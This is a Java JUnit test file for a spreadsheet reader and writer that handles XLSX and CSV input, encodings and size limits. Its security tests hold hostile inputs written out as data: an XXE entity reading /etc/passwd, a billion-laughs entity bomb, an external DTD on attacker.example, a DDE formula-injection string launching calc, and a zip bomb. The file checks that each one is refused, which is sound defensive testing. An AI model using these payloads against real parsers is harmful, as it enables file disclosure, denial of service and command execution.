package cn.portcover.spreadsheet;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.Worksheet;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TablesTest {
  private static final Limits LIMITS = new Limits(100, 20);
  private static final Tables TABLES = new Tables();

  private interface Filling {
    void fill(Workbook book, Worksheet sheet);
  }

  private static byte[] workbook(Filling filling) {
    var bytes = new ByteArrayOutputStream();
    try (var book = new Workbook(bytes, "Test", "1.0")) {
      filling.fill(book, book.newWorksheet("S"));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static List<Line> read(byte[] content) {
    return TABLES.read(content, LIMITS);
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  @Test
  void cellsAreTextsNumbersAndDates() {
    List<Line> lines =
        read(
            workbook(
                (book, sheet) -> {
                  sheet.value(0, 0, " 发票号 ");
                  sheet.value(2, 0, 1234.5);
                  sheet.value(2, 1, LocalDate.of(2026, 11, 21));
                  sheet.style(2, 1).format("yyyy-MM-dd").set();
                  sheet.value(2, 2, true);
                  sheet.value(2, 3, 0.1 + 0.2);
                  sheet.value(2, 4, 101201900000000440d);
                  sheet.value(2, 5, 46000);
                  sheet.style(2, 5).format("yyyy\"年\"m\"月\"d\"日\"").set();
                  sheet.value(2, 6, 46000);
                  sheet.style(2, 6).format("0.00\"days\"").set();
                  sheet.formula(2, 7, "1+1");
                }));

    assertThat(lines).hasSize(2);
    assertThat(lines.getFirst().number()).isEqualTo(1);
    assertThat(lines.getFirst().cell(0)).isEqualTo("发票号");
    Line second = lines.get(1);
    assertThat(second.number()).isEqualTo(3);
    assertThat(second.cells().subList(0, 7))
        .containsExactly(
            "1234.5", "2026-11-21", "TRUE", "0.3", "101201900000000000", "2025-12-09", "46000");
    assertThat(second.digitsLost()).containsExactly(4);
    assertThat(second.cell(19)).isEmpty();
  }

  @Test
  void csvIsReadInItsEncodingsAndSeparators() {
    String table = "发票号,金额\r\n\"INV,\"\"1\"\"\",\" 100 \"\r\n\r\nINV-2,3\r\n";
    for (byte[] file :
        List.of(
            utf8(table),
            utf8("\ufeff" + table),
            table.getBytes(Charset.forName("GB18030")),
            ("\ufeff" + table).getBytes(StandardCharsets.UTF_16LE))) {
      List<Line> lines = read(file);
      assertThat(lines).extracting(Line::number).containsExactly(1, 2, 4);
      assertThat(lines.getFirst().cells()).containsExactly("发票号", "金额");
      assertThat(lines.get(1).cells()).containsExactly("INV,\"1\"", "100");
    }
    assertThat(read(utf8("a;b\n1,5;2\n")).get(1).cells()).containsExactly("1,5", "2");
    assertThat(read(utf8("a\tb\n1\t2\n")).get(1).cells()).containsExactly("1", "2");
  }

  @Test
  void limitsHold() {
    assertThatThrownBy(() -> read(utf8("a\n".repeat(101)))).isInstanceOf(SpreadsheetTooLarge.class);
    assertThat(read(utf8("a\n".repeat(100)))).hasSize(100);
    assertThatThrownBy(() -> read(utf8("x".repeat(4001)))).isInstanceOf(SpreadsheetTooLarge.class);
    assertThat(read(utf8("a" + ",b".repeat(50))).getFirst().cells()).hasSize(20);
    byte[] rows =
        workbook(
            (book, sheet) -> {
              for (int i = 0; i < 101; i++) {
                sheet.value(i, 0, "x");
              }
            });
    assertThatThrownBy(() -> read(rows)).isInstanceOf(SpreadsheetTooLarge.class);
    String far = "<row r=\"1048576\"><c r=\"XFD1048576\"><v>1</v></c></row>";
    assertThat(read(sheet(far))).isEmpty();
    assertThatThrownBy(() -> read(sheet(far.repeat(200_000))))
        .isInstanceOf(SpreadsheetTooLarge.class);
  }

  @Test
  void aBombIsNotExpanded() {
    byte[] bomb = repacked("xl/worksheets/sheet1.xml", new byte[200 << 20]);
    assertThat(bomb.length).isLessThan(1_000_000);
    long start = System.nanoTime();
    assertThatThrownBy(() -> read(bomb)).isInstanceOf(SpreadsheetTooLarge.class);
    assertThat(System.nanoTime() - start).isLessThan(5_000_000_000L);
    byte[] many = repacked(null, null);
    assertThatThrownBy(() -> read(many)).isInstanceOf(SpreadsheetTooLarge.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM"
            + " \"file:///etc/passwd\">]><worksheet>&a;</worksheet>",
        "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;\">]><worksheet/>",
        "<?xml version=\"1.0\" encoding=\"UTF-7\"?><worksheet/>",
        "<worksheet><sheetData><row r=\"1\"><c"
            + " r=\"ZZZZZZZ1\"><v>1</v></c></row></sheetData></worksheet>",
        "<worksheet><sheetData><row r=\"1\"><c x='>' r ="
            + " '&#90;ZZZZZ1'/></row></sheetData></worksheet>",
        "<worksheet><sheetData><row r=\"99999999\"/></sheetData></worksheet>",
        "<worksheet><sheetData><row"
      })
  void hostileSheetsAreRefused(String sheet) {
    assertThatThrownBy(() -> read(repacked("xl/worksheets/sheet1.xml", utf8(sheet))))
        .isInstanceOf(SpreadsheetDamaged.class);
    assertThatThrownBy(
            () ->
                read(repacked("xl/worksheets/sheet1.xml", sheet.getBytes(StandardCharsets.UTF_16))))
        .isInstanceOf(SpreadsheetDamaged.class);
  }

  @Test
  void entitiesAreRefusedInEveryPart() {
    byte[] external = utf8("<!DOCTYPE sst SYSTEM \"http://attacker.example/x.dtd\"><sst/>");
    for (String part :
        List.of(
            "xl/sharedStrings.xml", "xl/styles.xml", "xl/workbook.xml", "[Content_Types].xml")) {
      assertThatThrownBy(() -> read(repacked(part, external)))
          .as(part)
          .isInstanceOf(SpreadsheetDamaged.class);
    }
  }

  @Test
  void otherFilesAreNoTables() {
    assertThatThrownBy(() -> read(utf8("%PDF-1.7"))).isInstanceOf(SpreadsheetTypeNotAllowed.class);
    byte[] old = {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, 0, 0, 0, 0};
    assertThatThrownBy(() -> read(old)).isInstanceOf(SpreadsheetTypeNotAllowed.class);
    assertThatThrownBy(() -> read(new byte[] {'a', 0, 'b'}))
        .isInstanceOf(SpreadsheetTypeNotAllowed.class);
    assertThatThrownBy(() -> read(new byte[] {'a', (byte) 0xff, (byte) 0xff}))
        .isInstanceOf(SpreadsheetDamaged.class);
    assertThatThrownBy(() -> read(utf8("PK\3\4"))).isInstanceOf(SpreadsheetDamaged.class);
    assertThat(read(new byte[0])).isEmpty();
  }

  @Test
  void textsAreNeverFormulasAndComeBackAsTheyWere() throws Exception {
    List<String> texts =
        List.of(
            "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "'=1", "''=1", "＝1", "-5", "plain");
    var columns =
        texts.stream()
            .map(
                t ->
                    new NewWorkbook.Column(
                        "h", "n", 10, false, NewWorkbook.Content.TEXT, List.of()))
            .toList();
    byte[] file =
        new NewWorkbook(columns, 10)
            .write("S", List.of(new NewWorkbook.Filled(texts, Map.of(0, "bad"))), "N", texts);

    assertThat(read(file).get(1).cells()).isEqualTo(texts);
    try (var book =
        new org.dhatim.fastexcel.reader.ReadableWorkbook(new java.io.ByteArrayInputStream(file))) {
      for (var cell : book.getFirstSheet().read().get(1)) {
        assertThat(cell.getFormula()).isNull();
        assertThat(cell.asString())
            .doesNotStartWith("=")
            .doesNotStartWith("+")
            .doesNotStartWith("@");
      }
    }
  }

  @Test
  void dropDownsHoldTheChoices() {
    byte[] file =
        new NewWorkbook(
                List.of(
                    new NewWorkbook.Column(
                        "方式", "n", 10, true, NewWorkbook.Content.TEXT, List.of("赊销", "其他"))),
                50)
            .write("S", List.of(), "N", List.of("note"));
    String sheet = part(file, "xl/worksheets/sheet1.xml");
    assertThat(sheet)
        .contains("<dataValidation")
        .contains("sqref=\"A2:A51\"")
        .contains("Lists!$A$1:$A$2");
    assertThat(read(file).getFirst().cells()).containsExactly("方式");
  }

  /** Any bytes get an answer; the seed is printed when they do not. */
  @Test
  void anyBytesAreAnswered() {
    long seed = Long.getLong("seed", System.nanoTime());
    Random random = new Random(seed);
    byte[] right = workbook((book, sheet) -> sheet.value(0, 0, "x"));
    for (int i = 0; i < 400; i++) {
      byte[] file = Arrays.copyOf(right, right.length - random.nextInt(20) * random.nextInt(2));
      for (int changes = random.nextInt(8); changes >= 0; changes--) {
        file[random.nextInt(file.length)] = (byte) random.nextInt(256);
      }
      try {
        assertThat(read(file)).as("seed %d, turn %d", seed, i).isNotNull();
      } catch (SpreadsheetDamaged | SpreadsheetTooLarge | SpreadsheetTypeNotAllowed asItShould) {
        assertThat(asItShould.code()).startsWith("spreadsheet-");
      }
    }
  }

  private static byte[] sheet(String rows) {
    return repacked(
        "xl/worksheets/sheet1.xml",
        utf8(
            "<worksheet"
                + " xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
                + rows
                + "</sheetData></worksheet>"));
  }

  private static String part(byte[] workbook, String name) {
    return new String(
        java.util.Objects.requireNonNull(parts(workbook).get(name)), StandardCharsets.UTF_8);
  }

  private static Map<String, byte[]> parts(byte[] workbook) {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    try (var zip =
        org.apache.commons.compress.archivers.zip.ZipFile.builder().setByteArray(workbook).get()) {
      for (var entry : java.util.Collections.list(zip.getEntries())) {
        parts.put(entry.getName(), zip.getInputStream(entry).readAllBytes());
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return parts;
  }

  /** A right workbook with one part exchanged; without one, with a thousand more. */
  private static byte[] repacked(
      @org.jspecify.annotations.Nullable String name,
      byte @org.jspecify.annotations.Nullable [] content) {
    Map<String, byte[]> parts = parts(workbook((book, sheet) -> sheet.value(0, 0, "x")));
    if (name != null && content != null) {
      parts.put(name, content);
    } else {
      for (int i = 0; i < 1000; i++) {
        parts.put("xl/more/" + i + ".xml", new byte[0]);
      }
    }
    var bytes = new ByteArrayOutputStream();
    try (var zip = new ZipOutputStream(bytes)) {
      for (var part : parts.entrySet()) {
        zip.putNextEntry(new ZipEntry(part.getKey()));
        zip.write(part.getValue());
        zip.closeEntry();
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }
}
